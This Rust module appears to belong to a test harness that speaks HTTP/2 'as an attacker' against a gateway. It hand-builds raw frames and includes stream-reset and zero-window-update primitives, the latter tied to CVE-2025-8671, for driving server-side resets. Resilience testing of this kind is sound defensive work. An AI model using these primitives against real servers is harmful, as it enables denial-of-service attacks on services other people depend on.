//! HTTP/2 as an attacker speaks it: frames by hand (RFC 9113 section 4.1).

use crate::stand::Client;
use std::io;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_rustls::client::TlsStream;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const WINDOW_UPDATE: u8 = 8;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A connection that sends what it likes and takes what comes, or nothing.
pub struct Frames {
    write: WriteHalf<TlsStream<TcpStream>>,
    read: Option<ReadHalf<TlsStream<TcpStream>>>,
    /// Takes what comes; ends with the connection.
    taker: JoinSet<()>,
    site: &'static str,
    next: u32,
}

impl Frames {
    /// Connects; each stream may be sent so many bytes before the client takes any.
    pub async fn connect(client: &Client, window: u32) -> io::Result<Self> {
        let (read, mut write) = tokio::io::split(client.connect().await?);
        write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        let mut frames = Self { write, read: Some(read), taker: JoinSet::new(), site: client.site(), next: 1 };
        let setting = [&[0, 4], &window.to_be_bytes()[..]].concat();
        frames.send(SETTINGS, 0, 0, &setting).await?;
        // The connection's own window opened as far as it goes.
        frames.send(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes()).await?;
        Ok(frames)
    }

    /// Reads and forgets whatever comes, in a task that ends with the connection, so that the gateway's writes are never what waits.
    pub fn take_everything(&mut self) {
        if let Some(mut read) = self.read.take() {
            self.taker.spawn(async move {
                let mut buffer = [0; 16 * 1024];
                while read.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
            });
        }
    }

    /// Begins a request and gives its stream.
    pub async fn request(&mut self, method: Method, path: &str) -> io::Result<u32> {
        let stream = self.next;
        self.next += 2;
        let mut block = vec![method as u8, 0x87, 0x04];
        literal(&mut block, path);
        block.push(0x01);
        literal(&mut block, self.site);
        let flags = if matches!(method, Method::Get) { END_HEADERS | END_STREAM } else { END_HEADERS };
        self.send(HEADERS, flags, stream, &block).await?;
        Ok(stream)
    }

    pub async fn reset(&mut self, stream: u32) -> io::Result<()> {
        self.send(RST_STREAM, 0, stream, &8_u32.to_be_bytes()).await
    }

    /// A window update of zero is an error of the stream, which makes the **server** reset it (CVE-2025-8671).
    pub async fn make_it_reset(&mut self, stream: u32) -> io::Result<()> {
        self.send(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()).await
    }

    /// A piece of a request's body.
    pub async fn data(&mut self, stream: u32, bytes: &[u8]) -> io::Result<()> {
        self.send(DATA, 0, stream, bytes).await
    }

    async fn send(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> io::Result<()> {
        let length = u32::try_from(payload.len()).map_err(io::Error::other)?.to_be_bytes();
        let mut frame = vec![length[1], length[2], length[3], kind, flags];
        frame.extend_from_slice(&stream.to_be_bytes());
        frame.extend_from_slice(payload);
        self.write.write_all(&frame).await?;
        self.write.flush().await
    }
}

/// By its index in HPACK's static table (RFC 7541 appendix A).
#[derive(Clone, Copy)]
pub enum Method {
    Get = 0x82,
    Post = 0x83,
}

fn literal(block: &mut Vec<u8>, text: &str) {
    let length = u8::try_from(text.len()).ok().filter(|length| *length < 127);
    block.push(length.expect("no longer text is sent here"));
    block.extend_from_slice(text.as_bytes());
}
